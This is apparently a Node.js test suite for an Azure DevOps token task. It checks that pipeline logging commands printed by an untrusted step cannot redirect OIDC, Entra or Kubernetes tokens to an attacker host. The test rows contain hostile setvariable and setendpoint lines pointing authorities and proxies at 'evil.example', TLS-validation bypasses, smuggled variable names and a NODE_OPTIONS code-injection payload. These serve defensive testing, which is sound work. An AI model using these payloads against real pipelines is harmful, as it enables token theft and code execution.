/**
 * What a step that can merely print may do to a later step of this task. Each row prints lines that a stranger chose;
 * counted is what arrives at servers of strangers, which the machine trusts or which could be made trusted. An old agent
 * that only warns of read-only variables allows the most, so all rows run there, and those that newer agents do not stop
 * run there as well.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { stringify } from 'yaml';
import { type JobOptions, type JobResult, runJob, type StepResult } from '../agent/job.ts';
import { type Cloud, startCloud } from '../cloud/cloud.ts';
import { type HttpProxy, startProxy } from '../cloud/proxy.ts';
import { pathThere } from '../on-windows.ts';
import { realNames, rehearsalOptions } from '../rehearsal.ts';
import { type Strangers, startStrangers } from './strangers.ts';

const folder = mkdtempSync(join(tmpdir(), 'security-'));
let cloud: Cloud;
let strangers: Strangers;
/** The proxy of the agent: real names lead to the local cloud, the stranger's to the stranger. */
let proxy: HttpProxy;
let pod: Record<string, string>;

before(async () => {
  [cloud, strangers] = await Promise.all([startCloud(), startStrangers()]);
  proxy = await startProxy({ resolve: { ...cloud.hosts, ...strangers.resolve } });
  const volume = await cloud.kubernetes.writeProjectedVolume(join(folder, 'volume'));
  pod = {
    AZURE_CLIENT_ID: cloud.clientId,
    AZURE_TENANT_ID: cloud.tenantId,
    AZURE_AUTHORITY_HOST: 'https://login.microsoftonline.com/',
    AZURE_FEDERATED_TOKEN_FILE: volume.file,
  };
});
after(async () => {
  await Promise.all([cloud.close(), strangers.close(), proxy.close()]);
  rmSync(folder, { recursive: true });
});

const OLD = '4.260.0';
const NEW = '5.278.0';

interface Row {
  title: string;
  /** The lines that the first step prints; `CA` stands for the path of a certificate in the checkout. */
  prints: () => string[];
  inputs?: Record<string, string>;
  /** Whose network: the agent's own proxy, or none, so that only a printed proxy leads anywhere. */
  network?: 'agent' | 'none';
  job?: () => Partial<JobOptions>;
  /** The machine's environment beside that of the agent. */
  machine?: () => Record<string, string>;
  /** Also on a new agent, which lets the lines through as well. */
  onNew?: boolean;
  /** How the step ends: with this code, or well; where it does not matter, neither. */
  ends?: string;
}

const set = (name: string, value: string, more = ''): string =>
  `##vso[task.setvariable variable=${name}${more}]${value}`;
const connectionId = (): string => cloud.connections.azureRM.id;
const setData = (key: string, value: string, id = connectionId()): string =>
  `##vso[task.setendpoint id=${id};field=dataParameter;key=${key}]${value}`;
const setSystemUrl = (url: string): string =>
  `##vso[task.setendpoint id=00000000-0000-0000-0000-000000000000;field=url]${url}`;
const evil = 'https://evil.example/';
/** A JWT, as any file may hold one. */
const someToken = (): string =>
  `${['{"alg":"none"}', '{"iss":"i","sub":"s","aud":"a","exp":4102444800}'].map((part) => Buffer.from(part).toString('base64url')).join('.')}.c2lnbmF0dXJl`;
const kubernetes = { credentialSource: 'kubernetes', azureSubscription: '' };
const plan = '34304abc-4a96-46df-804a-b3683ba7fd1a';

const rows: Row[] = [
  // The job token.
  { title: 'System.OidcRequestUri', prints: () => [set('System.OidcRequestUri', `${evil}oidctoken`)], ends: '' },
  { title: 'an alias of it', prints: () => [set('System_OidcRequestUri', `${evil}oidctoken`)], onNew: true },
  { title: 'an alias with a blank', prints: () => [set('system oidcrequesturi', `${evil}oidctoken`)] },
  {
    title: 'another endpoint of the organization',
    prints: () => [set('System.OidcRequestUri', 'https://dev.azure.com/contoso/_apis/pipelines/17/runs')],
    ends: '',
  },
  {
    title: 'another organization',
    prints: () => [
      set(
        'System.OidcRequestUri',
        cloud.job.oidcRequestUri.replace(cloud.devOpsUrl, 'https://dev.azure.com/fabrikam/'),
      ),
    ],
    ends: '',
  },
  {
    title: 'another plan',
    prints: () => [
      set(
        'System.OidcRequestUri',
        cloud.job.oidcRequestUri
          .replace(cloud.devOpsUrl, 'https://dev.azure.com/contoso/')
          .replace(plan, '00000000-4a96-46df-804a-b3683ba7fd1a'),
      ),
    ],
    ends: '',
  },
  {
    title: 'an alias of the plan',
    prints: () => [set('System_PlanId', '../../..')],
    ends: 'ET_VARIABLE_REFUSED',
  },
  { title: 'System.CollectionUri', prints: () => [set('System.CollectionUri', evil)], ends: '' },
  { title: 'an alias of the collection', prints: () => [set('System_CollectionUri', evil)], onNew: true },
  {
    title: 'the address of the job’s connection, as a variable',
    prints: () => [set('ENDPOINT_URL_SYSTEMVSSCONNECTION', evil), set('System.OidcRequestUri', `${evil}oidctoken`)],
    onNew: true,
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'the same, with dots',
    prints: () => [set('endpoint.url.systemvssconnection', evil)],
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'the authorization of the job’s connection',
    prints: () => [set('ENDPOINT_AUTH_SYSTEMVSSCONNECTION', '{"parameters":{"AccessToken":"x"},"scheme":"OAuth"}')],
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'the address of the job’s connection, as a command',
    prints: () => [setSystemUrl(evil)],
    ends: 'ET_ORGANIZATION_REFUSED',
  },
  {
    title: 'the same, with all variables that name the organization',
    prints: () => [
      setSystemUrl(evil),
      ...['System.CollectionUri', 'System.TeamFoundationCollectionUri'].map((name) => set(name, evil)),
      set('System.OidcRequestUri', `${evil}oidctoken`),
    ],
    ends: 'ET_ORGANIZATION_REFUSED',
  },
  {
    title: 'a server of one’s own',
    prints: () => [
      setSystemUrl(evil),
      ...['System.CollectionUri', 'System.TeamFoundationCollectionUri'].map((name) => set(name, evil)),
      set('System.ServerType', 'OnPremises'),
    ],
    machine: () => ({ AZURE_FEDERATED_TOKEN_FILE: '' }),
    ends: 'ET_DEVOPS_SERVER',
  },

  // The ID token.
  {
    title: 'the authority of a connection',
    prints: () => [setData('activeDirectoryAuthority', evil)],
    onNew: true,
    ends: 'ET_AUTHORITY_REFUSED',
  },
  {
    title: 'its authority, and a cloud of its own',
    prints: () => [setData('environment', 'AzureStack'), setData('activeDirectoryAuthority', evil)],
    onNew: true,
    ends: 'ET_AUTHORITY_REFUSED',
  },
  {
    title: 'the same of a connection that has nothing else',
    prints: () => [
      setData('environment', 'AzureStack', cloud.connections.azureRMMinimal.id),
      setData('activeDirectoryAuthority', evil, cloud.connections.azureRMMinimal.id),
    ],
    inputs: { azureSubscription: 'minimal', scopes: 'https://vault.azure.net' },
    ends: 'ET_AUTHORITY_REFUSED',
  },
  {
    title: 'the same, with an ID token of a stranger',
    prints: () => [
      setData('environment', 'AzureStack', cloud.connections.azureRMMinimal.id),
      setData('activeDirectoryAuthority', evil, cloud.connections.azureRMMinimal.id),
      `##vso[task.setendpoint id=${cloud.connections.azureRMMinimal.id};field=authParameter;key=idToken]${someToken()}`,
    ],
    inputs: { azureSubscription: 'minimal', scopes: 'https://vault.azure.net' },
    ends: 'ET_AUTHORITY_REFUSED',
  },
  {
    title: 'this machine for its authority',
    prints: () => [
      setData(
        'activeDirectoryAuthority',
        `https://localhost:${new URL(`http://${strangers.resolve['evil.example:443']}`).port}/`,
      ),
    ],
    ends: 'ET_AUTHORITY_REFUSED',
  },
  {
    title: 'an authority that the connection lacks',
    prints: () => [
      set(`ENDPOINT_DATA_${bare().id}_ACTIVEDIRECTORYAUTHORITY`, evil, ';preservecase=true'),
      set(`ENDPOINT_DATA_${bare().id}_ENVIRONMENT`, 'AzureStack', ';preservecase=true'),
    ],
    inputs: { azureSubscription: 'bare' },
    job: () => ({ connections: [bare()] }),
    onNew: true,
    ends: '',
  },
  {
    title: 'all of a connection’s data',
    prints: () => [
      set(
        `ENDPOINT_DATA_${connectionId()}`,
        `{"environment":"X","activeDirectoryAuthority":"${evil}"}`,
        ';preservecase=true',
      ),
    ],
    onNew: true,
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'the authorization of a connection',
    prints: () => [set(`ENDPOINT_AUTH_${connectionId()}`, '{"parameters":{},"scheme":"X"}', ';preservecase=true')],
    ends: 'ET_VARIABLE_REFUSED',
  },
  ...['INPUT_AUTHORITYHOST', 'input.authorityhost', 'Input authorityHost'].map((name) => ({
    title: `an input, as ${name}`,
    prints: () => [set(name, evil)],
    ends: 'ET_VARIABLE_REFUSED',
  })),
  {
    title: 'another source',
    prints: () => [set('INPUT_CREDENTIALSOURCE', 'kubernetes'), set('INPUT_TOKENFILEPATH', 'CA')],
    onNew: true,
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'what libraries read by themselves',
    prints: () => [
      set('MSAL_FORCE_REGION', 'evil'),
      set('REGION_NAME', 'evil'),
      set('AZURE_AUTHORITY_HOST', evil),
      set('AZURE_POD_IDENTITY_AUTHORITY_HOST', evil),
      set('IDENTITY_ENDPOINT', evil),
      set('NO_PROXY', '+.corp,(x,[::1'),
      set('TASKLIB_INPROC_UNITS', 'true'),
    ],
    onNew: true,
    ends: '',
  },

  {
    title: 'a name that holds a value, for an input',
    prints: () => [set('INPUT_AUTHORITYHOST=https://2130706433:8443/#', 'x', ';preservecase=true')],
    onNew: true,
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'a name that holds the beginning of the list of names',
    prints: () => [set('VSTS_PUBLIC_VARIABLES=["A', '"]'), set('INPUT_AUTHORITYHOST', evil)],
    onNew: true,
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'a name that makes the list unreadable',
    prints: () => [set('VSTS_PUBLIC_VARIABLES=', 'x'), set('ENDPOINT_URL_SYSTEMVSSCONNECTION', evil)],
    ends: 'ET_VARIABLE_REFUSED',
  },

  // The pod's token.
  {
    title: 'the pod’s authority',
    prints: () => [set('AZURE_AUTHORITY_HOST', evil)],
    inputs: kubernetes,
    machine: () => pod,
    onNew: true,
    ends: '',
  },
  {
    title: 'a token proxy',
    prints: () => [
      set('AZURE_KUBERNETES_TOKEN_PROXY', evil),
      set('azure.kubernetes.ca.data', readFileSync(strangers.trustedCaFile, 'utf8').replaceAll('\n', '%0A')),
    ],
    inputs: kubernetes,
    machine: () => pod,
    onNew: true,
    ends: 'ET_VARIABLE_REFUSED',
  },
  {
    title: 'a file with any token',
    prints: () => [set('AZURE_FEDERATED_TOKEN_FILE', 'CA')],
    inputs: kubernetes,
    machine: () => pod,
    ends: 'ET_KUBERNETES_VARIABLES',
  },
  {
    title: 'a client of a stranger',
    prints: () => [set('AZURE_CLIENT_ID', cloud.multitenant.clientId)],
    inputs: kubernetes,
    machine: () => pod,
    ends: 'ET_KUBERNETES_VARIABLES',
  },
  {
    title: 'a made-up memory of the pod',
    prints: () => {
      const text = Buffer.from(JSON.stringify({ ...pod, AZURE_AUTHORITY_HOST: evil })).toString('base64url');
      return [set('ENTRATOKEN_POD', `${text}.${text}`), set('AZURE_AUTHORITY_HOST', evil)];
    },
    inputs: kubernetes,
    machine: () => pod,
    ends: '',
  },
  {
    title: 'the fallback of a connection',
    prints: () => [
      set('HTTPS_PROXY', 'http://127.0.0.1:9'),
      set('AZURE_FEDERATED_TOKEN_FILE', 'CA'),
      set('AZURE_AUTHORITY_HOST', evil),
      set('AZURE_KUBERNETES_TOKEN_PROXY', evil),
    ],
    network: 'none',
    onNew: true,
    ends: 'ET_PROXY',
  },

  {
    title: 'the fallback of a connection, and a private cloud',
    prints: () => [
      set('HTTPS_PROXY', 'http://127.0.0.1:9'),
      set('NO_PROXY', 'localhost'),
      setData('environment', 'AzureStack', cloud.connections.azureRMMinimal.id),
      setData(
        'activeDirectoryAuthority',
        `https://localhost:${new URL(`http://${strangers.resolve['evil.example:443']}`).port}/`,
        cloud.connections.azureRMMinimal.id,
      ),
    ],
    inputs: { azureSubscription: 'minimal', scopes: 'https://vault.azure.net' },
    network: 'none',
    machine: () => pod,
    onNew: true,
    ends: 'ET_PROXY',
  },

  // Whom TLS trusts. Everything goes through the stranger's proxy, which ends TLS with certificates of its own.
  ...(
    [
      ['a proxy alone', []],
      ['NODE_EXTRA_CA_CERTS of the checkout', [set('NODE_EXTRA_CA_CERTS', 'CA')]],
      ['the same by a relative path', [set('NODE_EXTRA_CA_CERTS', './ca.pem')]],
      ['the same through the system’s files', [set('NODE_EXTRA_CA_CERTS', '/proc/self/cwd/ca.pem')]],
      ['SSL_CERT_FILE', [set('SSL_CERT_FILE', 'CA'), set('NODE_USE_SYSTEM_CA', '1')]],
      ['SSL_CERT_FILE and options of Node', [set('SSL_CERT_FILE', 'CA'), set('NODE_OPTIONS', '--use-openssl-ca')]],
      ['Agent.CAInfo', [set('Agent.CAInfo', 'CA')]],
      ['an alias of Agent.CAInfo', [set('Agent_CAInfo', 'CA')]],
      ['Agent.SkipCertValidation', [set('Agent.SkipCertValidation', 'True')]],
      ['an alias of it', [set('agent_skipcertvalidation', 'true')]],
      ['NODE_TLS_REJECT_UNAUTHORIZED', [set('NODE_TLS_REJECT_UNAUTHORIZED', '0')]],
      ['an agent’s home of its own', [set('Agent.HomeDirectory', '.'), set('Agent.SkipCertValidation', 'True')]],
    ] as const
  ).map(([title, prints]) => ({
    title: `trust: ${title}`,
    prints: () => [set('HTTPS_PROXY', strangers.interceptor), ...prints],
    network: 'none' as const,
    ends: 'ET_CERTIFICATE',
  })),
  {
    title: 'trust: a certificate in a variable',
    prints: () => [
      set('HTTPS_PROXY', strangers.interceptor),
      set('A', `%0A${strangers.interceptorCa.replaceAll('\n', '%0A')}`),
      set('NODE_EXTRA_CA_CERTS', '/proc/self/environ'),
    ],
    network: 'none',
    ends: 'ET_CERTIFICATE',
  },
  {
    title: 'trust: the agent’s proxy, and no checks',
    prints: () => [set('Agent.ProxyUrl', strangers.interceptor), set('Agent.SkipCertValidation', 'True')],
    network: 'none',
    ends: 'ET_CERTIFICATE',
  },
  {
    title: 'trust: no checks, where the agent’s files cannot be read',
    prints: () => [set('HTTPS_PROXY', strangers.interceptor), set('Agent.SkipCertValidation', 'True')],
    network: 'none',
    job: () => ({ hasAgentFiles: false }),
    onNew: true,
    ends: 'ET_CERTIFICATE',
  },
];

/** A connection with no data at all. */
function bare(): (typeof cloud.connections)['azureRM'] {
  return { ...cloud.connections.azureRM, name: 'bare', data: {} };
}

interface Ended {
  job: JobResult;
  main: StepResult;
  code: string;
}

async function run(row: Row, agentVersion: string): Promise<Ended> {
  const ca = join(folder, 'checkout.pem');
  writeFileSync(ca, `${strangers.interceptorCa}${someToken()}\n`);
  const lines = join(folder, `lines-${rows.indexOf(row)}`);
  const pipeline = stringify({
    steps: [
      // Stands for the checkout, and for the output of a test run.
      { bash: `cp '${ca}' ca.pem && sed "s|\\bCA\\b|$PWD/ca.pem|" '${lines}'` },
      {
        task: 'EntraToken@1',
        name: 'entra',
        condition: 'always()',
        inputs: { azureSubscription: 'prod', kubernetesFallback: 'true', ...row.inputs },
      },
    ],
  });
  writeFileSync(lines, `${row.prints().join('\n')}\n`);
  const names = realNames(cloud);
  const { connections = names.connections ?? [], ...more } = row.job?.() ?? {};
  const base = rehearsalOptions(cloud);
  const job = await runJob({
    ...base,
    ...names,
    pipeline,
    connections,
    agentVersion,
    enforceReadOnly: agentVersion !== OLD,
    ...(row.network === 'none' ? {} : { proxy: { url: proxy.url, bypass: [] } }),
    ...(row.network === 'none' ? { certificates: undefined } : {}),
    environment: {
      // What the strangers have is trusted by the machine, and so is the cloud.
      NODE_EXTRA_CA_CERTS: trustOfMachine(),
      ...row.machine?.(),
    },
    ...more,
  } as JobOptions);
  const main = job.steps.find(({ name, stage }) => name === 'entra' && stage === 'main');
  assert.ok(main);
  const error = main.issues.find(({ type }) => type === 'error');
  return { job, main, code: error?.data['code'] ?? '' };
}

function trustOfMachine(): string {
  const file = join(folder, 'machine.pem');
  writeFileSync(file, [cloud.ca.pem, readFileSync(strangers.trustedCaFile, 'utf8')].join('\n'));
  return file;
}

describe('a step that can merely print', { concurrency: 4 }, () => {
  for (const row of rows) {
    for (const version of row.onNew ? [OLD, NEW] : [OLD]) {
      it(`leads no token astray on agent ${version}: ${row.title}`, async () => {
        const { main, code } = await run(row, version);
        assert.deepEqual(strangers.arrived, [], `${row.title}: something arrived at a stranger`);
        const devOps = cloud.requests.filter(({ service }) => service === 'devops');
        const own = new URL(cloud.job.oidcRequestUri).pathname.toLowerCase();
        for (const { path } of devOps) assert.equal(path.split('?')[0]?.toLowerCase(), own, 'the one endpoint');
        const presented = cloud.requests.flatMap(({ form }) => form?.['client_assertion'] ?? []);
        assert.ok(!presented.includes(someToken()), 'a file of the checkout is no token of the pod');
        if (row.ends !== undefined) assert.equal(code, row.ends, main.lines.join('\n'));
      });
    }
  }
});

describe('what only the step that prints can be kept from', { concurrency: 3 }, () => {
  const owned = "--import=data:text/javascript,console.log('owned'%2B'!')";
  const print = (lines: readonly string[], target?: object) => ({
    bash: lines.map((line) => `echo "${line.replaceAll('"', '\\"')}"`).join('\n'),
    ...(target === undefined ? {} : { target }),
  });
  const both = { commands: 'restricted', settableVariables: 'none' };
  const refused = (): string[] => [set('NODE_OPTIONS', owned), setData('activeDirectoryAuthority', evil)];
  const rows: { title: string; target: object | undefined; isOwned: boolean; code: string }[] = [
    { title: 'NODE_OPTIONS and a command, by nothing', target: undefined, isOwned: true, code: 'ET_AUTHORITY_REFUSED' },
    {
      title: 'variables alone, by one half',
      target: { settableVariables: 'none' },
      isOwned: false,
      code: 'ET_AUTHORITY_REFUSED',
    },
    { title: 'commands alone, by the other', target: { commands: 'restricted' }, isOwned: true, code: '' },
    { title: 'both, by both', target: both, isOwned: false, code: '' },
  ];
  for (const { title, target, isOwned, code } of rows) {
    it(title, async () => {
      const job = await runJob({
        ...rehearsalOptions(cloud),
        ...realNames(cloud),
        proxy: { url: proxy.url },
        pipeline: stringify({
          steps: [
            print(refused(), target),
            { task: 'EntraToken@1', name: 'entra', inputs: { azureSubscription: 'prod' } },
          ],
        }),
      });
      const main = job.steps.find(({ name, stage }) => name === 'entra' && stage === 'main');
      assert.equal(main?.rawOutput.stdout.includes('owned!'), isOwned);
      assert.equal(main?.issues.find(({ type }) => type === 'error')?.data['code'] ?? '', code);
    });
  }
});

describe('a printed variable', { concurrency: 3 }, () => {
  const entra = { task: 'EntraToken@1', name: 'entra', inputs: { azureSubscription: 'prod' } };
  const user = { username: 'agent', password: 'a-password-of-the-proxy' };

  for (const { title, name, options } of [
    { title: 'an alias of the agent’s proxy', name: 'Agent_ProxyUrl', options: {} },
    {
      title: 'the agent’s proxy itself, which its own file names',
      name: 'Agent.ProxyUrl',
      options: { enforceReadOnly: false },
    },
  ]) {
    it(`gets no password of the proxy: ${title}`, async () => {
      const own = await startProxy({ resolve: cloud.hosts, ...user });
      const before = strangers.proxyCredentials.length;
      try {
        await runJob({
          ...rehearsalOptions(cloud),
          ...realNames(cloud),
          proxy: { url: own.url, ...user },
          pipeline: stringify({ steps: [{ bash: `echo "${set(name, strangers.interceptor)}"` }, entra] }),
          ...options,
        });
        assert.equal(strangers.proxyCredentials.length, before);
      } finally {
        await own.close();
      }
    });
  }

  it('does not move the token file', async () => {
    const workFolder = join(folder, 'moved', '_work');
    const job = await runJob({
      ...rehearsalOptions(cloud),
      workFolder,
      enforceReadOnly: false,
      pipeline: stringify({
        steps: [
          {
            bash: ['Agent.TempDirectory', 'Agent_TempDirectory']
              .map((name) => `echo "${set(name, '$(Build.ArtifactStagingDirectory)')}"`)
              .join('\n'),
          },
          {
            ...entra,
            inputs: { azureSubscription: 'prod', exportEnvironment: 'tokenFile', keepTokenFileFresh: 'false' },
          },
        ],
      }),
    });
    assert.ok(
      job.outputs['entra.federatedTokenFile']?.value.startsWith(pathThere(join(workFolder, '_temp'))),
      job.log.join('\n'),
    );
  });
});
